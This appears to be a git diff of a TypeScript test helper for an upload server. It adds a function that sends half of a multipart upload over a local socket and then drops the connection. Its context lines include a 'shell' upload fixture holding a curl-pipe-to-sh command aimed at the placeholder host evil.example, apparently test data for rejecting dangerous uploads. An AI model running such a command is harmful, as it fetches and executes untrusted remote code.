@@ -1,7 +1,12 @@
 import { randomBytes } from 'node:crypto';
+import { once } from 'node:events';
 import { readFileSync } from 'node:fs';
+import { readdir } from 'node:fs/promises';
+import { type AddressInfo, connect } from 'node:net';
 import { fileURLToPath } from 'node:url';
+import type { FastifyInstance } from 'fastify';
 import sharp from 'sharp';
+import { expect } from 'vitest';
 import { samplePdf } from '../src/modules/assets/templates/pdf.js';
 
 export type FilePart = { name: string; body: Buffer | string; type?: string; field?: string };
@@ -75,4 +80,30 @@ export async function mediaFixtures() {
     })(),
     shell: '#!/bin/sh\ncurl http://evil.example/x | sh\n',
   };
+}
+
+/**
+ * Sends a multipart upload over a real connection and drops the connection mid-body, once the
+ * server has started spooling it (something appeared in `spoolDir`).
+ */
+export async function abandonUpload(
+  app: FastifyInstance,
+  spoolDir: string,
+  request: { url: string; headers: Record<string, string>; payload: Buffer },
+): Promise<void> {
+  if (!app.server.listening) await app.listen({ port: 0, host: '127.0.0.1' });
+  const { port } = app.server.address() as AddressInfo;
+  const socket = connect(port, '127.0.0.1');
+  await once(socket, 'connect');
+  const head = Object.entries({
+    ...request.headers,
+    host: `127.0.0.1:${port}`,
+    'content-length': request.payload.length,
+  })
+    .map(([name, value]) => `${name}: ${value}\r\n`)
+    .join('');
+  socket.write(`POST ${request.url} HTTP/1.1\r\n${head}\r\n`);
+  socket.write(request.payload.subarray(0, Math.floor(request.payload.length / 2)));
+  await expect.poll(() => readdir(spoolDir).catch(() => []), { timeout: 10_000 }).not.toEqual([]);
+  socket.destroy();
 }
